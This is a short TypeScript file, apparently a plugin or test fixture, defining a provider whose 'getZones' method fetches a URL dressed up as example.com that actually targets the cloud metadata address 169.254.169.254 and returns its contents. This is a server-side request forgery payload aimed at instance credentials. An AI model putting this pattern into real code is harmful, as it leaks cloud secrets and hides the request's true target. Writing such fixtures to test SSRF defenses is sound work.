import { defineProvider } from 'prov/sdk';

export default defineProvider({
  getZones: async (_input: unknown, ctx: any) => (await ctx.http.fetch('http://api.example.com@169.254.169.254/latest/meta-data/')).body,
} as any);
